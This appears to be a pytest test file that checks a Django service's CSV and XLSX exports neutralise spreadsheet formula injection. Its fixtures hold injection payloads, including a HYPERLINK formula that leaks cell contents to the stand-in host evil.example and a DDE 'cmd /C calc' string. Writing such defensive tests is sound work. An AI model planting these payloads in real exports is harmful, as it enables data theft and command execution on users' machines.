"""Defect 2: text someone typed is never a live formula in any CSV or XLSX the service makes.

The payload goes into an indicator's title, a commentary and an action plan's action; every
export is downloaded (or written by the command) and no XLSX cell is a formula and no CSV
cell starts with a character a spreadsheet would run.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from django.contrib.auth.models import User
from django.core.management import call_command
from django.test import Client

from goldenthread.core.csvfiles import FORMULA_STARTS, csv_text
from goldenthread.documents import Sheet, workbook_bytes, write_xlsx
from goldenthread.improvement import services as improvement
from goldenthread.indicators.models import Indicator
from tests.reports.fixtures import Scenario

PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
PAYLOADS = [PAYLOAD, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


@pytest.fixture
def team(client: Client, performance_user: User) -> Client:
    client.force_login(performance_user)
    return client


@pytest.fixture
def poisoned(scenario: Scenario, team: Client) -> dict[str, Any]:
    indicator: Indicator = scenario.indicators["red"]
    Indicator.objects.filter(pk=indicator.pk).update(title=PAYLOAD)
    indicator.actuals.update(commentary=PAYLOAD, remedial_action="@SUM(1+1)*cmd|' /C calc'!A0")
    plan = improvement.plan_create(
        None, council=scenario.council, ref="p-evil", kind="corporate", title="Plan"
    )
    rec = improvement.recommendation_add(None, plan, 1, PAYLOAD, "-1+1")
    improvement.action_add(None, rec, text=PAYLOAD, letter="a", timescale="End March 2026")
    return {"plan": plan}


def export_urls(world: dict[str, Any]) -> list[str]:
    plan = world["plan"].pk
    return [
        f"/improvement/plans/{plan}/export.xlsx",
        f"/improvement/plans/{plan}/export.csv",
        "/reports/scorecard/?period=2025-26-Q2&format=csv",
        "/reports/scorecard/?period=2025-26-Q2&format=xlsx",
        "/import/template/?kind=values&format=csv",
        "/import/template/?kind=values&format=xlsx",
        "/import/template/?kind=indicators&format=csv",
        "/audit.csv",
        "/plans/coverage.csv",
        "/open-data/indicators.csv",
        "/open-data/values.csv",
    ]


def assert_no_live_formula(content: bytes, name: str) -> int:
    """The number of cells checked (so a test cannot pass by checking nothing)."""
    if content.startswith(b"PK"):
        book = openpyxl.load_workbook(io.BytesIO(content))
        cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
        formulas = [c.coordinate for c in cells if c.data_type == "f"]
        assert not formulas, f"{name}: formula cells {formulas}"
        return len(cells)
    text = content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    live = [cell for cell in cells if cell[:1] in FORMULA_STARTS and not _number(cell)]
    assert not live, f"{name}: {live}"
    return len(cells)


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _body(response: Any) -> bytes:
    if getattr(response, "streaming", False):
        return b"".join(response.streaming_content)
    return bytes(response.content)


def test_formula_injection_in_every_export_url(team: Client, poisoned: dict[str, Any]) -> None:
    for url in export_urls(poisoned):
        response = team.get(url)
        assert response.status_code == 200, url
        body = _body(response)
        assert assert_no_live_formula(body, url) > 0
    plan_csv = _body(team.get(export_urls(poisoned)[1])).decode("utf-8-sig")
    assert "'" + PAYLOAD.replace('"', '""') in plan_csv
    book = openpyxl.load_workbook(io.BytesIO(_body(team.get(export_urls(poisoned)[0]))))
    texts = [c.value for row in book.worksheets[0].iter_rows() for c in row]
    assert PAYLOAD in texts  # kept as the text that was typed, not dropped


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_formula_injection_in_the_export_command(
    poisoned: dict[str, Any], tmp_path: Path, fmt: str
) -> None:
    out = tmp_path / f"scorecard.{fmt}"
    call_command(
        "export", "scorecard", "--period", "2025-26-Q2", "--format", fmt, "--out", str(out)
    )
    assert assert_no_live_formula(out.read_bytes(), str(out)) > 0


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize(
    "write",
    [
        lambda rows: csv_text(rows).encode(),
        lambda rows: _xlsx(rows),
        lambda rows: workbook_bytes(_book(rows)),
    ],
    ids=["csv_text", "write_xlsx", "workbook_bytes"],
)
def test_formula_injection_the_writers_keep_text_as_text_and_numbers_as_numbers(
    write: Callable[[list[list[Any]]], bytes], payload: str
) -> None:
    content = write([["text", "number"], [payload, -12.5]])
    assert_no_live_formula(content, payload)
    if content.startswith(b"PK"):
        sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
        assert sheet["A2"].value == payload.replace("\r", "\n") or sheet["A2"].value == payload
        assert sheet["B2"].value == -12.5 and sheet["B2"].data_type == "n"
    else:
        rows = list(csv.reader(io.StringIO(content.decode(), newline="")))
        assert rows[1] == ["'" + payload, "-12.5"]


def _xlsx(rows: list[list[Any]]) -> bytes:
    out = io.BytesIO()
    write_xlsx([Sheet("S", rows)], out)
    return out.getvalue()


def _book(rows: list[list[Any]]) -> Any:
    book = openpyxl.Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(row)
    return book
